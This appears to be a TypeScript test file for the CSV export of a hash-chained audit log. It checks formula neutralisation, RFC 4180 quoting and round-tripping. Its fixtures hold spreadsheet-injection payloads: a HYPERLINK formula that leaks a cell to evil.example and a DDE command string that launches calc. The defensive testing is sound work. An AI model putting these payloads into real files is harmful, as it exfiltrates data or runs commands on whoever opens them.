import { chainRecord, GENESIS_HASH, verifyChain } from '../../lambdas/core/audit';
import type { AuditEntry, AuditRecord } from '../../lambdas/core/ports';
import { CSV_COLUMNS, parseCsv, recordsFromCsv, toCsv } from '../../lambdas/core/report/formats';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

const entry = (extra: Partial<AuditEntry>): AuditEntry => ({
  executionId: 'arn:aws:states:us-east-1:000000000000:execution:golive-go-live:e1',
  service: 'demo',
  step: 'SignOff',
  action: 'reject',
  actor: 'U_APPROVER_ANA',
  outcome: 'info',
  summary: 'U_APPROVER_ANA voted reject',
  at: '2026-01-01T12:00:00.000Z',
  ...extra,
});

function chain(entries: AuditEntry[]): AuditRecord[] {
  const records: AuditRecord[] = [];
  entries.forEach((e, i) => records.push(chainRecord(e, i + 1, records.at(-1)?.hash ?? GENESIS_HASH)));
  return records;
}

describe('audit CSV export', () => {
  const records = chain([
    entry({ summary: HOSTILE, evidence: { vote: { reason: HOSTILE } } }),
    entry({ actor: '@SUM(1+1)*cmd|" /C calc"!A0', actorName: '+1 555 0100', verifiedBy: 'local' }),
    entry({ summary: '-2+3', action: '\tattest', step: '\rSignOff' }),
    entry({ summary: "'=already quoted", actorName: 'Ana López, "Release", Team\nB', verifiedBy: 'slack' }),
    entry({ summary: 'a plain, "quoted"\r\nmulti-line value', outcome: 'succeeded', evidence: '=1+1' }),
  ]);

  it('starts no cell with a formula character: =, +, -, @, tab or carriage return become text', () => {
    const csv = toCsv(records);
    const cells = parseCsv(csv).slice(1).flat();

    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells).toContain('\'@SUM(1+1)*cmd|" /C calc"!A0');
    expect(cells).toContain("'+1 555 0100");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'\tattest");
    expect(cells).toContain("'\rSignOff");
    expect(cells).toContain("''=already quoted");
    // Evidence is JSON: a string that looks like a formula is quoted JSON text, not a formula.
    expect(cells).toContain('"=1+1"');
  });

  it('quotes commas, quotes and line breaks (RFC 4180) so every row keeps its columns', () => {
    const rows = parseCsv(toCsv(records));

    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.slice(1).map((r) => r.length)).toEqual(records.map(() => CSV_COLUMNS.length));
    expect(rows[4][CSV_COLUMNS.indexOf('actorName')]).toBe('Ana López, "Release", Team\nB');
    expect(rows[5][CSV_COLUMNS.indexOf('summary')]).toBe('a plain, "quoted"\r\nmulti-line value');
  });

  it('reads the neutralised cells back into the exact records, whose chain still verifies', () => {
    const back = recordsFromCsv(toCsv(records));

    expect(back).toEqual(records);
    expect(verifyChain(back)).toMatchObject({ intact: true, records: records.length });
  });

  it('keeps how each actor was verified and their name, both part of the hashed record', () => {
    const back = recordsFromCsv(toCsv(records));

    expect(back[1]).toMatchObject({ actorName: '+1 555 0100', verifiedBy: 'local' });
    expect(back[0]).not.toHaveProperty('actorName');
    expect(back[0]).not.toHaveProperty('verifiedBy');
  });

  it('still reads a CSV exported before names and verification were columns', () => {
    const legacy = chain([entry({}), entry({ summary: 'second', evidence: { weights: { blue: 0, green: 100 } } })]);
    const columns = CSV_COLUMNS.filter((c) => c !== 'actorName' && c !== 'verifiedBy');
    const text = toCsv(legacy)
      .split('\r\n')
      .map((line) => {
        const cells = parseCsv(`${line}\r\n`)[0] ?? [];
        return cells
          .filter((_, i) => columns.includes(CSV_COLUMNS[i] as (typeof columns)[number]))
          .map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c))
          .join(',');
      })
      .join('\r\n');

    expect(recordsFromCsv(text)).toEqual(legacy);
  });

  it('refuses a file that is not a golive audit CSV', () => {
    expect(() => recordsFromCsv('a,b,c\r\n1,2,3\r\n')).toThrow('not a golive audit CSV: unexpected header');
  });
});
